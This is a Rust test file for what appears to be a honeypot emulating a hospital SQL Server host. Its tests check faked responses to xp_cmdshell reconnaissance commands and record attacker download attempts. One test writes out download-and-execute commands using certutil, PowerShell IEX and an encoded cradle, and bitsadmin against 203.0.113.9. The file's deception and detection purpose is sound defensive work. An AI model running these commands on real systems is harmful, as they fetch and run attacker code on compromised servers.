//! What commands of the operating system print.

use super::*;

fn shell(connection: &mut Connection, command: &str) -> Vec<String> {
    let rows = rows(connection, &format!("exec master..xp_cmdshell '{}'", command.replace('\'', "''")));
    let mut lines: Vec<String> = rows.into_iter().map(|mut row| row.remove(0)).collect();
    assert_eq!(lines.pop().as_deref(), Some("NULL"), "{command}");
    lines
}

fn open() -> (Server, Connection) {
    let server = server();
    let mut c = server.connect("sa");
    all(
        &mut c,
        "exec sp_configure 'show advanced options', 1; reconfigure; exec sp_configure 'xp_cmdshell', 1; reconfigure",
    );
    (server, c)
}

#[test]
fn drives_and_files_agree_with_the_catalogue() {
    let (_server, mut c) = open();
    let serial = |c: &mut Connection, drive: &str| shell(c, &format!("vol {drive}"))[1].clone();
    let (c1, d1) = (serial(&mut c, "c:"), serial(&mut c, "d:"));
    assert!(c1.starts_with(" 卷的序列号是 ") && c1 != d1, "{c1} {d1}");
    assert_eq!(shell(&mut c, "dir f:\\"), ["系统找不到指定的路径。"]);
    let listed = shell(&mut c, r"dir D:\HISDATA");
    let files = rows(
        &mut c,
        "select physical_name, cast(size as bigint) * 8192 from sys.master_files where physical_name like 'D:%' and state_desc = 'ONLINE'",
    );
    assert_eq!(files.len(), 6);
    let mut sum = 0u64;
    for file in &files {
        let name = file[0].rsplit('\\').next().unwrap();
        let line =
            listed.iter().find(|line| line.ends_with(name)).unwrap_or_else(|| panic!("{name}: {listed:?}"));
        let size = line.split_whitespace().rev().nth(1).unwrap().replace(',', "");
        assert_eq!(size, file[1]);
        sum += size.parse::<u64>().unwrap();
    }
    let total = listed.iter().find(|line| line.contains("个文件")).unwrap();
    assert_eq!(total.split_whitespace().rev().nth(1).unwrap().replace(',', ""), sum.to_string());
    assert!(listed.last().unwrap().ends_with("可用字节"));
    let sized = files.iter().map(|file| file[1].as_str()).collect::<std::collections::BTreeSet<_>>();
    assert_eq!(sized.len(), 6);
    let backups = shell(&mut c, r"dir /b E:\HISBAK\THIS4");
    let told = rows(
        &mut c,
        "select f.physical_device_name from msdb.dbo.backupset s join msdb..backupmediafamily f on f.media_set_id = s.media_set_id where s.backup_finish_date > dateadd(day, -5, getdate()) and s.database_name = 'THIS4'",
    );
    assert!(
        !told.is_empty()
            && told.iter().all(|row| backups.contains(&row[0].rsplit('\\').next().unwrap().to_owned()))
    );
    assert_eq!(rows(&mut c, "exec xp_fixeddrives").len(), 3);
}

#[test]
fn commands_print_what_the_persona_is() {
    let (server, mut c) = open();
    assert_eq!(shell(&mut c, "hostname"), ["clzx-hisdb01"]);
    assert_eq!(shell(&mut c, "echo %COMPUTERNAME%"), ["CLZX-HISDB01"]);
    assert!(shell(&mut c, "ipconfig").iter().any(|line| line.ends_with(": 127.0.10.18")));
    assert!(shell(&mut c, "ipconfig /all").iter().any(|line| line.ends_with("clzxyy.local")));
    let ports = shell(&mut c, "netstat -ano");
    assert!(ports.iter().any(|line| line.contains("0.0.0.0:1433") && line.contains("LISTENING")));
    let id = ports
        .iter()
        .find(|line| line.contains("0.0.0.0:1433"))
        .unwrap()
        .split_whitespace()
        .last()
        .unwrap()
        .to_owned();
    assert!(
        shell(&mut c, "tasklist")
            .iter()
            .any(|line| line.starts_with("sqlservr.exe") && line.contains(&format!(" {id} ")))
    );
    assert!(
        shell(&mut c, "systeminfo")
            .iter()
            .any(|line| line == "OS 名称:          Microsoft Windows Server 2012 R2 Standard")
    );
    assert!(shell(&mut c, "whoami /priv").iter().any(|line| line.starts_with("SeImpersonatePrivilege")));
    assert!(shell(&mut c, "net user").iter().any(|line| line.contains("hisbak")));
    assert!(shell(&mut c, r"reg query HKLM\SOFTWARE\Microsoft\WINDOWS~1 /v x").concat().contains("错误"));
    assert_eq!(shell(&mut c, r"type C:\nichts.txt"), ["系统找不到指定的文件。"]);
    assert!(
        shell(&mut c, r"type C:\Windows\System32\drivers\etc\hosts")
            .iter()
            .any(|line| line.contains("clzx-lis01"))
    );
    assert!(shell(&mut c, "net view").iter().any(|line| line.starts_with(r"\\CLZX-LIS01")));
    assert!(shell(&mut c, "sc query mssqlserver").iter().any(|line| line.contains("4  RUNNING")));
    assert!(
        shell(&mut c, "wmic os get caption")
            .iter()
            .any(|line| line.starts_with("Microsoft Windows Server 2012 R2"))
    );
    assert!(shell(&mut c, "dir | findstr cmd.exe").len() == 1);
    assert_eq!(shell(&mut c, "nichts & hostname").last().unwrap(), "clzx-hisdb01");
    assert_eq!(shell(&mut c, r"echo x> C:\Windows\Temp\a.txt"), Vec::<String>::new());
    assert_eq!(shell(&mut c, r"type c:\windows\temp\A.txt"), ["x"]);
    drop(server);
}

#[test]
fn what_is_to_be_fetched_is_told_and_never_comes() {
    let (_server, mut c) = open();
    for command in [
        "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe",
        "powershell -c \"IEX(New-Object Net.WebClient).DownloadString(''http://203.0.113.9/a.ps1'')\"",
        "bitsadmin /transfer x http://203.0.113.9/a.exe c:\\a.exe",
    ] {
        let sql = format!("exec master..xp_cmdshell '{command}'");
        let told = seen(&mut c, &sql);
        assert!(told.deeds.iter().any(|deed| matches!(deed, Deed::Fetch { source, .. } if source.starts_with("http://203.0.113.9/a."))), "{told:?}");
        assert!(!rows(&mut c, &sql).is_empty());
    }
    // Encoded as tools send it.
    let told = seen(
        &mut c,
        "exec xp_cmdshell 'powershell -nop -w hidden -enc aQB3AHIAIABoAHQAdABwADoALwAvADIAMAAzAC4AMAAuADEAMQAzAC4AOQAvAHgA'",
    );
    assert!(
        told.deeds
            .iter()
            .any(|deed| matches!(deed, Deed::Fetch { source, .. } if source == "http://203.0.113.9/x"))
    );
}

#[test]
fn a_lures_hash_is_of_its_password() {
    use sha2::{Digest, Sha512};
    let server = server();
    let mut c = server.connect("sa");
    let pack = pack();
    let password =
        pack.host("hisdb").unwrap().accounts.iter().find(|a| a.name == "sa").unwrap().password.clone();
    let hash =
        one(&mut c, "select sys.fn_varbintohexstr(password_hash) from sys.sql_logins where name = 'sa'");
    let bytes = hex::decode(hash.trim_start_matches("0x")).unwrap();
    assert_eq!((bytes.len(), &bytes[..2]), (70, &[2u8, 0][..]));
    let text: Vec<u8> =
        password.encode_utf16().flat_map(u16::to_le_bytes).chain(bytes[2..6].iter().copied()).collect();
    assert_eq!(&bytes[6..], &Sha512::digest(text)[..]);
}
